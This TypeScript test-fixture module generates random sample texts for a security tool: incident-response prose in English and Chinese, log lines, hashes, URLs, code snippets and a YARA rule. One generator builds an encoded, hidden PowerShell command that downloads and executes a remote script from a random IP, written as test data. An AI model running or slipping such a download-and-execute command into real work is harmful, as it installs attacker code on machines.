import type { SeededRandom } from '../../testing/seeded-random.ts'

const HEX = '0123456789abcdef'
const LOWER = 'abcdefghijklmnopqrstuvwxyz'
const ALNUM = `${LOWER}${LOWER.toUpperCase()}0123456789`
const EMOJI = ['🧯', '🔥', '🚨', '🔐', '🛡', '🇨🇳', '🧑🏽', '🫠', '🪪', '⚠', '✅', '➡']

const ENGLISH = [
  'Isolate the host from the network before you reset the account; otherwise the attacker notices and destroys what is left of the evidence.',
  'The beacon returns every sixty seconds with a jitter of a tenth, which is how the proxy logs gave it away at last.',
  'Lateral movement went by scheduled tasks and remote services, never by an exploit, so the vulnerability scanner has nothing to say about it.',
  'Ransomware operators exfiltrated approximately 40 gigabytes through a misconfigured object-storage bucket, undetected for eleven days.',
  "We don't know yet whether m.chen's credentials were phished or sprayed; the VPN's conditional-access policy wasn't enforced that night.",
  'Recommendation: quarantine, acquire memory, preserve volatile artefacts, and only then begin eradication.',
]
const CHINESE = [
  '攻击者首先通过钓鱼邮件获取了财务部门员工的凭据，随后利用远程桌面横向移动到域控服务器，并在凌晨外传了大量压缩文件。',
  '建议立即隔离受影响的主机，重置相关账号的密码，并检查过去七天内所有来自该地址段的登录记录。',
  '经研判，该告警并非误报：进程树显示办公软件启动了脚本解释器，后者又下载并执行了未签名的载荷。',
  '目前尚不清楚横向移动的初始入口，需要进一步比对防火墙、终端检测与邮件网关三处日志的时间线。',
  '请值班工程师在交接前确认：封禁策略已下发、取证镜像已校验哈希、业务方已知悉影响范围。',
]
const CODE = [
  'export async function send(ctx: Context, { id, text }: Input): Promise<Sent> {\n  if (!id || text === "") throw new Error(`bad id`)\n  return ctx.db.query("SELECT * FROM t WHERE a = ? AND b <> ?", [id, text])\n}',
  "def parse(line):\n    m = re.match(r'^(\\d{1,3}(?:\\.\\d{1,3}){3})\\s+-\\s+(\\S+)', line)\n    return {'ip': m[1], 'user': m[2]} if m else None\n",
  '#include <windows.h>\nint WINAPI WinMain(HINSTANCE h, HINSTANCE p, LPSTR c, int n) {\n\tHANDLE t = CreateThread(NULL, 0, run, NULL, 0, NULL);\n\treturn WaitForSingleObject(t, INFINITE);\n}',
  'rule Beacon {\n  strings:\n    $a = { 4D 5A 90 00 ?? ?? E8 [4-6] 6A 40 }\n    $b = "ReflectiveLoader" ascii wide nocase\n  condition:\n    uint16(0) == 0x5A4D and all of them\n}',
  'cat /var/log/auth.log | awk \'/Failed/{print $(NF-3)}\' | sort | uniq -c | sort -rn | head -20 >&2 && echo "done: $?"',
]

const padNumber = (value: number, width = 2): string => String(value).padStart(width, '0')
const drawAddress = (random: SeededRandom): string => Array.from({ length: 4 }, () => random.below(256)).join('.')
const drawClock = (random: SeededRandom): string =>
  `${padNumber(random.below(24))}:${padNumber(random.below(60))}:${padNumber(random.below(60))}`
const createLines = (count: number, line: () => string): string => Array.from({ length: count }, line).join('\n')
const drawUuid = (random: SeededRandom): string => [8, 4, 4, 4, 12].map((length) => random.text(length, HEX)).join('-')
const drawBytes = (random: SeededRandom, length: number): Uint8Array =>
  Uint8Array.from({ length }, () => random.below(256))

/** Lists the texts that questions, events and sources consist of, a few paragraphs of each. */
export const TEXTS: Record<string, (random: SeededRandom) => string> = {
  english: (random) => createLines(4, () => random.pick(ENGLISH)),
  chinese: (random) => createLines(4, () => random.pick(CHINESE)),
  logs: (random) =>
    createLines(8, () =>
      random.pick([
        `2026-11-22T${drawClock(random)}.${padNumber(random.below(1_000), 3)}Z FIN-WS-${padNumber(random.below(99), 3)} sshd[${random.below(65_535)}]: Failed password for invalid user admin from ${drawAddress(random)} port ${random.below(65_535)} ssh2`,
        `${drawAddress(random)} - - [22/Nov/2026:${drawClock(random)} +0000] "GET /api/v1/items?id=${random.below(9_999)} HTTP/1.1" 404 ${random.below(99_999)} "-" "curl/8.5.0"`,
        `EventID=4625 LogonType=${random.below(11)} TargetUserName=svc_backup IpAddress=${drawAddress(random)} Status=0xC000006D`,
      ]),
    ),
  'mixed logs': (random) =>
    createLines(6, () =>
      random.pick([
        `2026-11-22 ${drawClock(random)} [警告] 主机 FIN-WS-${padNumber(random.below(99), 3)} 登录失败 user=zhangsan src=${drawAddress(random)}:${random.below(65_535)} 原因=密码错误`,
        `【${random.pick(['高危', '中危'])}】${drawAddress(random)} 访问 https://cdn-update.example/a.php?id=${random.below(9_999)}，规则 ET-${random.below(99_999)} 命中 ${random.below(99)} 次`,
      ]),
    ),
  json: (random) =>
    createLines(3, () =>
      JSON.stringify(
        {
          level: 'warn',
          time: 1_763_800_000_000 + random.below(1e9),
          request: {
            id: drawUuid(random),
            method: 'GET',
            url: '/api/v1/items',
            headers: { 'user-agent': 'curl/8.5.0' },
          },
          bytes: [random.below(999), random.below(999)],
          user: null,
          ok: random.next() > 0.5,
        },
        null,
        random.pick([0, 2]),
      ),
    ),
  hashes: (random) =>
    createLines(8, () => random.text(random.pick([32, 40, 64]), random.pick([HEX, HEX.toUpperCase()]))),
  identifiers: (random) => createLines(8, () => drawUuid(random)),
  base64: (random) => Buffer.from(drawBytes(random, 300)).toString(random.pick(['base64', 'base64url'])),
  'an encoded command': (random) =>
    `powershell -nop -w hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString("http://${drawAddress(random)}/${random.text(6, LOWER)}.ps1")`, 'utf16le').toString('base64')}`,
  tokens: (random) => createLines(6, () => random.text(40, ALNUM)),
  'a dump': (random) =>
    createLines(
      6,
      () =>
        `${padNumber(random.below(9_999), 4)}: ${Array.from({ length: 8 }, () => random.text(4, HEX)).join(' ')}  ................`,
    ),
  addresses: (random) => Array.from({ length: 20 }, () => drawAddress(random)).join(random.pick(['\n', ', ', ' '])),
  domains: (random) =>
    createLines(
      10,
      () => `${random.text(6 + random.below(12), LOWER)}.${random.pick(['com', 'example', 'net', 'top', 'ru'])}`,
    ),
  urls: (random) =>
    createLines(
      4,
      () =>
        `https://${random.text(8, LOWER)}.example/%2e%2e%2f${random.text(6, ALNUM)}?q=%E6%94%BB%E5%87%BB&t=${random.below(1e9)}`,
    ),
  paths: (random) =>
    createLines(
      4,
      () =>
        `C:\\Users\\m.chen\\AppData\\Local\\Temp\\~DF${random.text(4, HEX.toUpperCase())}.tmp HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run`,
    ),
  code: (random) => createLines(2, () => random.pick(CODE)),
  emoji: (random) => Array.from({ length: 30 }, () => random.pick(EMOJI)).join(random.pick(['', ' '])),
  digits: (random) => random.text(200, '0123456789'),
  signs: (random) => random.text(200, '!@#$%^&*()_+-=[]{}|;:\'",.<>/?`~'),
}
